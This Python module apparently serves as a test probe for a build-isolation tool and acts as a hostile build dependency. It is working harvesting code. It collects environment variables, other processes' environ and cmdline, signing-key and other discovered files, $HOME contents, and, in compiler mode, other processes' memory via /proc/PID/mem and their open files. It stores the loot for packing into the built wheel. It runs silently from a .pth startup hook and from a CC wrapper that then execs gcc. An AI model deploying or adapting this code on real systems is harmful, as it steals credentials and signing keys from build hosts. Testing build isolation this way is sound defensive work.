"""A hostile build dependency's payload: gather every secret this process could reach, keep it as loot.

Standard library only. :func:`probe` reads what a build step's code can read on its own, as an attacker in a
build dependency or a source tree would: its own environment, the environment and argv of every process it
can see in /proc (its parents' included), its mounts, every file whose path it saw there (the way it would
learn where a signing key lives), the files it was told about (``targets.json`` in the tree: paths an attacker knows,
the signing key's among them), and everything under $HOME. It writes what it found, each piece once
(content-addressed), into ``kiln-loot/`` beside the build venv (``$VIRTUAL_ENV/../kiln-loot``); the tree's
setup.py puts the loot into the wheel. The test then looks for each secret in the wheel. Run as the tree's own
compiler (:func:`as_compiler`: by ccache in the compile step, or by sccache's server, which runs the compiles
it is sent), it also reads every other process it sees through /proc: environment, open files, and memory
(``/proc/PID/mem`` after its maps, as a debugger does), kept under ``kiln-loot/mem/`` for the test to search.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import stat
import subprocess
import sys
import time
from pathlib import Path

_PATH = re.compile(r"/[A-Za-z0-9._+@%-][A-Za-z0-9._+@%/-]*")
MAX_FILE = 64 * 1024
MAX_HOME_ENTRIES = 400


def loot_dir() -> Path | None:
    """Beside the venv this process runs in (a build venv, in the work directory the test reads), never
    $VIRTUAL_ENV's: that is whatever shell started the tests, a checkout's .venv among them (issue 48: loot
    was written into the checkout). ``KILN_LOOT_DIR`` names another (a test that runs the probe without a
    build venv)."""
    if os.environ.get("KILN_LOOT_DIR"):
        return Path(os.environ["KILN_LOOT_DIR"])
    return Path(sys.prefix).parent / "kiln-loot" if sys.prefix != sys.base_prefix else None


def _read(path: str) -> str:
    try:
        with open(path, "rb") as handle:
            return handle.read(MAX_FILE).decode("utf-8", "replace")
    except OSError as exc:
        return f"<{type(exc).__name__}: {exc.strerror}>"


def _targets() -> list[str]:
    """Paths an attacker knows about this builder (the tree's targets.json, found from the working directory
    or the tree the setup.py runs in)."""
    for base in (Path.cwd(), *Path.cwd().parents):
        found = base / "targets.json"
        if found.is_file():
            return list(json.loads(found.read_text())["paths"])
    return []


def _home() -> dict[str, str]:
    home = os.environ.get("HOME") or os.path.expanduser("~")
    out: dict[str, str] = {}
    for root, dirs, files in os.walk(home):
        dirs[:] = [d for d in dirs if d not in ("proc",)]
        for name in files:
            if len(out) >= MAX_HOME_ENTRIES:
                return out
            path = os.path.join(root, name)
            out[path] = _read(path)
    return out


MAX_DUMP = 256 << 20  # bytes of one process's memory kept at most


def _error(exc: OSError) -> str:
    return f"<{type(exc).__name__}: {exc.strerror}>"


def _memory(pid: str, out: Path | None) -> str:
    """Read the process's writable memory through /proc/PID/mem (its maps first), as a debugger would:
    "read N bytes" (kept in ``out`` when given), or the error that stopped it."""
    try:
        with open(f"/proc/{pid}/maps") as handle:
            regions = [line.split() for line in handle]
        total = 0
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            sink = open(out, "wb") if out is not None else None
            try:
                for fields in regions:
                    start, end = (int(x, 16) for x in fields[0].split("-"))
                    if "w" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                        continue
                    try:
                        mem.seek(start)
                        data = mem.read(min(end - start, MAX_DUMP - total))
                    except OSError:
                        continue
                    total += len(data)
                    if sink is not None:
                        sink.write(data)
                    if total >= MAX_DUMP:
                        break
            finally:
                if sink is not None:
                    sink.close()
        return f"read {total} bytes"
    except OSError as exc:
        return _error(exc)


def _fds(pid: str) -> dict[str, str]:
    """Each open file of the process, reopened through /proc/PID/fd/N: a regular file's first bytes, else
    what it is; or the error."""
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        return {"": _error(exc)}
    out = {}
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        try:
            target = os.readlink(path)
            if stat.S_ISREG(os.stat(path).st_mode):
                out[name] = f"{target}: {_read(path)}"
            else:
                out[name] = target
        except OSError as exc:
            out[name] = _error(exc)
    return out


def peers(marker: str, dump: Path | None) -> dict[str, dict[str, object]]:
    """What this process can read of every other process it sees: its environment, its memory, its open
    files. Memory is read (and kept under ``dump``) only of processes whose environment it could read and
    that carry ``marker`` (this build's: never another user's or another build's on a shared host); for the
    others the attempt's error is what it found."""
    out: dict[str, dict[str, object]] = {}
    own = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == own:
            continue
        row: dict[str, object] = {"comm": _read(f"/proc/{entry}/comm").strip()}
        try:
            with open(f"/proc/{entry}/environ", "rb") as handle:
                environ = handle.read()
            row["environ"] = "read"
        except OSError as exc:
            environ, row["environ"] = b"", _error(exc)
        ours = bool(marker) and f"KILN_PROBE_MARKER={marker}".encode() in environ.split(b"\0")
        if ours or not environ:
            started = _read(f"/proc/{entry}/stat").rsplit(")", 1)[-1].split()[19:20]  # its start time
            name = f"{entry}-{''.join(started)}-{row['comm']}.mem"  # one process, whichever probe saw it
            target = dump / name if dump is not None and ours else None
            if target is not None and any(target.parent.parent.glob(f"*/{target.name}")):
                target = None  # another probe kept this process's memory already
            row["mem"] = _memory(entry, target)
            row["fds"] = _fds(entry)
        out[entry] = row
    return out


def control() -> str:
    """What reading the memory of a process this one starts gives (a dumpable child): the probe's own
    check that /proc/PID/mem can be read here at all."""
    child = subprocess.Popen(["sleep", "30"])
    try:
        time.sleep(0.1)
        return _memory(str(child.pid), None)
    finally:
        child.kill()
        child.wait()


def as_compiler() -> None:
    """Run as the tree's own compiler (CC): probe, reading every visible process's memory, then hand over
    to gcc with the same arguments (so the build and sccache's compiler detection work on)."""
    try:
        probe("the tree's own compiler", dump=True)
    except Exception:  # noqa: BLE001 - a probe never breaks the compile it rides on
        pass
    os.execvp("gcc", ["gcc", *sys.argv[1:]])


def gather(where: str) -> dict[str, object]:
    procs: dict[str, dict[str, str]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            procs[entry] = {
                "environ": _read(f"/proc/{entry}/environ").replace("\0", "\n"),
                "cmdline": _read(f"/proc/{entry}/cmdline").replace("\0", " "),
            }
    seen = "\n".join([*os.environ.values(), *(p["environ"] + "\n" + p["cmdline"] for p in procs.values())])
    learned = sorted({m for m in _PATH.findall(seen) if os.path.isfile(m)})[:300]
    return {
        "where": where,
        "pid": os.getpid(),
        "argv": sys.argv,
        "environ": dict(os.environ),
        "proc": procs,
        "learned": {path: _read(path) for path in learned},
        "targets": {path: _read(path) for path in _targets()},
        "home": _home(),
        "mounts": _read("/proc/self/mountinfo"),
    }


def probe(where: str, dump: bool = False) -> None:
    """Gather and keep the loot (each piece once: a file named by its digest); with ``dump`` (the tree's own
    compiler) also what it can read of the other processes it sees, their memory kept under ``mem/``."""
    out = loot_dir()
    found = gather(where)
    if dump:
        memory = out / "mem" / f"{os.getpid()}" if out is not None else None
        if memory is not None:
            memory.mkdir(parents=True, exist_ok=True)
        found["peers"] = peers(os.environ.get("KILN_PROBE_MARKER", ""), memory)
        found["control"] = control()
    text = json.dumps(found, sort_keys=True)
    if out is None:
        return
    out.mkdir(parents=True, exist_ok=True)
    name = hashlib.sha256(text.encode()).hexdigest()[:24]
    (out / f"{name}.json").write_text(text)


def at_start() -> None:
    """From kiln_probe.pth: every Python that starts in the build venv probes once."""
    try:
        probe(f"python start: {' '.join(sys.argv)[:200]}")
    except Exception:  # noqa: BLE001 - a probe never breaks the interpreter it runs in
        pass
